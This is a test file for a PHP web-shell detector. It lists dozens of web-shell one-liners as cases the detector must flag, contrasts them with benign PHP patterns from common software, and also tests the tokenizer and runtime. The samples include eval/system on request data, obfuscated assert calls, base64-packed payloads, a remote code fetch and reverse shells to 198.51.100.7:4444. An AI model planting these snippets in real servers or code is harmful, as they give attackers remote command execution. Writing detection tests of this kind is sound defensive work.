import { describe, expect, it } from 'vitest';
import { phpCode } from './php-code.ts';
import { scriptSigns } from './tokens.ts';

function strongest(code: string, extension = 'php'): number {
  return Math.max(0, ...scriptSigns(code, extension).map(({ weight }) => weight));
}

const shells: readonly (readonly [string, string, number])[] = [
  ['a command at once', '<?php system($_GET["c"]);', 0.9],
  ['code at once', '<?=@eval($_POST[1])?>', 0.9],
  ['backticks', '<?php echo `$_GET[c] 2>&1`;', 0.9],
  ['a text with a variable', '<?php passthru("sh -c {$_REQUEST[\'c\']}");', 0.9],
  ['a header', '<?php exec($_SERVER["HTTP_X_CMD"], $o); print_r($o);', 0.9],
  ['by a variable, decoded', '<?php $a = $_COOKIE["k"]; $b = base64_decode($a); eval($b);', 0.8],
  ['by a condition', '<?php $c = isset($_GET["c"]) ? $_GET["c"] : "id"; shell_exec($c);', 0.8],
  ['by a loop', '<?php foreach ($_POST as $k => $v) { assert($v); }', 0.8],
  ['a function that the request names', '<?php $_GET["f"]($_GET["x"]);', 0.75],
  ['a function in a variable', '<?php $f = "as"."sert"; $f($_POST["x"]);', 0.9],
  ['a function in escapes', '<?php $f = "\\x61\\x73sert"; $f($_POST["x"]);', 0.9],
  ['a callback', '<?php array_map("assert", (array)$_REQUEST["x"]);', 0.85],
  ['a callback that the request names', '<?php array_filter([$_GET["x"]], $_GET["f"]);', 0.75],
  ['other names of what was posted', '<?php eval(${"_PO"."ST"}["x"]); system($GLOBALS["_GET"]["c"]);', 0.9],
  ['the body', '<?php eval(file_get_contents("php://input"));', 0.9],
  ['an upload to where the request says', '<?php file_put_contents($_GET["p"], $_POST["d"]);', 0.8],
  ['a file that the request names', '<?php include $_GET["p"];', 0.6],
  ['packed', `<?php eval(base64_decode('${Buffer.from('system($_GET["c"]);').toString('base64')}'));`, 0.9],
  ['behind a comment', '<?php /* a form */ // $_GET\n system # shown\n ($_GET["c"]);', 0.9],
  ['a function of its own', '<?php function run($x) { return shell_exec($x); } echo run($_GET["c"]);', 0.75],
  ['a function in other letters', '<?php function Run($x) { system($x); } RUN($_GET["c"]);', 0.75],
  ['a method of its own', '<?php class A { function f($c) { @eval($c); } } (new A)->f($_REQUEST["x"]);', 0.75],
  ['a constructor', '<?php class A { function __construct($c) { system($c); } } new A($_GET["c"]);', 0.75],
  ['a property that a constructor fills', '<?php class A { private $c; function __construct($c) { $this->c = $c; } function __destruct() { @eval($this->c); } } $a = new A($_POST["x"]);', 0.75],
  ['a property that is filled from outside', '<?php class A { public $c; function __destruct() { assert($this->c); } } $a = new A; $a->c = $_POST["x"];', 0.75],
  ['a property that is filled inside', '<?php class A { function __wakeup() { $this->c = $_COOKIE["x"]; } function g() { system($this->c); } }', 0.75],
  ['variables set together', '<?php [$f, $a] = [$_GET["f"], $_GET["a"]]; $f($a);', 0.75],
  ['a query that is taken apart', '<?php parse_str(file_get_contents("php://input"), $p); system($p["c"]);', 0.8],
  ['a query that sets variables', '<?php parse_str($_SERVER["QUERY_STRING"]); $f($a);', 0.6],
  ['all cookies in a variable', '<?php $c = $_COOKIE; $c["f"]($c["a"]);', 0.75],
  ['a filter that lets all through', '<?php system(filter_input(INPUT_GET, "c")); eval(filter_var($_GET["d"], FILTER_UNSAFE_RAW));', 0.9],
  ['a header by its variable', '<?php system(getenv("HTTP_ACCEPT_LANGUAGE"));', 0.9],
  ['a command that is escaped as a whole', '<?php system(escapeshellcmd($_GET["c"]));', 0.8],
  ['a file that is sent', '<?php eval(file_get_contents($_FILES["f"]["tmp_name"]));', 0.8],
  ['a file that the request names and fills', '<?php $h = fopen($_GET["n"], "w"); fwrite($h, $_POST["d"]);', 0.5],
  ['a pattern whose replacement is run', '<?php preg_replace("/.*/e", $_POST["c"], "");', 0.85],
  ['the body as a page', '<?php include "php://input"; ?>', 0.85],
  ['code from elsewhere', '<?php eval("?>" . file_get_contents("http://198.51.100.7/a.txt"));', 0.75],
  ['a shell for an address', '<?php exec("/bin/bash -c \'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\'");', 0.75],
  ['a socket that becomes a shell', '<?php $s = fsockopen("198.51.100.7", 4444); proc_open("/bin/sh -i", [$s, $s, $s], $x);', 0.75],
  ['an upload under its own name', '<?php move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);', 0.3],
  ['reflection', '<?php (new ReflectionFunction($_GET["f"]))->invoke($_GET["c"]);', 0.65],
]; // prettier-ignore

/** As programs that everybody uses have them: WordPress, phpMyAdmin, Adminer, Cacti, DokuWiki, GOsa. */
const honest: readonly (readonly [string, string])[] = [
  ['a path of the server', '<?php require_once $_SERVER["DOCUMENT_ROOT"] . "/inc/header.php";'],
  ['letters taken out', '<?php $x = preg_replace("/[^a-z]/i", "", $_REQUEST["x"]);'],
  ['numbers of a form', '<?php $ids = array_map("absint", $_REQUEST["ids"]);'],
  ['comments that name both', '<?php /* Requires that `$_POST` is set; system() reads $_GET["x"]. */ $a = 1;'],
  ['columns in backticks', '<?php $q = \'UPDATE `\' . esc($_POST["t"]) . \'` SET\'; $db->exec($q);'],
  ['methods of these names', '<?php $this->exec($_POST["x"]); Db::system($_GET["y"]); function exec($_a) {}'],
  ['arguments of its own command line', '<?php call_user_func_array("ss_fping", $_SERVER["argv"]);'],
  ['an argument that is quoted', '<?php exec("ssh-keygen -l -f " . escapeshellarg($_POST["f"]));'],
  ['a number', '<?php system("kill " . (int) $_GET["pid"]); exec("top -n " . intval($_GET["n"]));'],
  ['one of its own functions by a key', '<?php $f = $_GET["i"]; call_user_func($importers[$f][2]); exec($commands[$_GET["i"]]);'],
  ['an assertion', '<?php assert(isset($_GET["x"]) && $_GET["x"] !== "");'],
  ['a variable that was set anew', '<?php $c = $_GET["c"]; $c = "uptime"; system($c);'],
  ['a picture in bytes', '<?php $p = chr(137) . chr(80) . chr(78) . chr(71) . chr(13) . chr(10) . chr(26) . chr(10);'],
  ['a new object', '<?php $m = new $_GET["module"]($_GET["x"]);'],
  ['an upload', '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "/srv/up/" . md5($_POST["n"]));'],
  ['a function of its own that quotes', '<?php function run($x) { return exec("id " . escapeshellarg($x)); } run($_GET["u"]);'],
  ['an object that keeps a code and runs a command of its own', '<?php class A { function __construct($c) { $this->code = $c; $this->run = "uptime"; } function g() { exec($this->run); } } new A($_GET["code"]);'],
  ['an object that quotes', '<?php class A { function s($c) { $this->c = escapeshellarg($c); } function g() { exec($this->c); } } $a->s($_GET["c"]);'],
  ['a list of what a form holds', '<?php [$a, $b] = [$_POST["a"], $_POST["b"]]; save($a, $b); exec("sync");'],
  ['text about it outside of PHP', '<p>Never write eval($_GET["x"]) or `$_POST[1]`.</p><?php echo 1; ?>'],
]; // prettier-ignore

describe('PHP that runs what a request brings', () => {
  it.each(shells)('%s', (_, code, least) => {
    expect(strongest(code)).toBeGreaterThanOrEqual(least);
  });

  it.each(honest)('is not %s', (_, code) => {
    expect(scriptSigns(code, 'php').filter(({ weight }) => weight > 0.4)).toEqual([]);
  });

  it('is read as PHP reads it: marks, comments, texts', () => {
    expect(phpCode("<b>$_GET</b><?php f(\"a $x[b] c\", 'one two', 'word'); // g()\n?>h()<?= i ?>")).toBe(
      " f(''.$x[b], '', 'word');  \n;\n i ;\n",
    );
    expect(phpCode('<?php $t = <<<END\nx $y z\nEND;\nf();')).toBe(" $t = ''.$y;\nf();");
    expect(phpCode('no code')).toBe('');
  });

  it('takes time linear in the page, whatever stands in it', () => {
    const used = (code: string): number => {
      const before = process.cpuUsage();
      scriptSigns(`<?php ${code}`.slice(0, 2 ** 16), 'php');
      const { user, system } = process.cpuUsage(before);
      return (user + system) / 1e6;
    };
    const parts = [
      '$a=$_GET[1];system($a',
      '(',
      '$a[',
      "'",
      '"',
      '`',
      '/*',
      '<<<A\n',
      'foreach (',
      '$a=$a[$a[',
      'call_user_func(',
      "'a'.",
      'isset(',
      '${',
      'extract($_GET',
      "''^''",
      'function f($a){system($a);}f($_GET[1]);',
      'class A{function __construct($c){$this->c=$c;}function g(){eval($this->c);}}new A($_GET[1]);',
      '->c=',
      'class a ',
      'f(',
      'list($a,$a,',
      'parse_str(',
      'eval(file_get_contents(',
      '\\x',
    ];
    expect(parts.filter((part) => used(part.repeat(2 ** 16 / part.length)) > 1.5)).toEqual([]);
  });
});
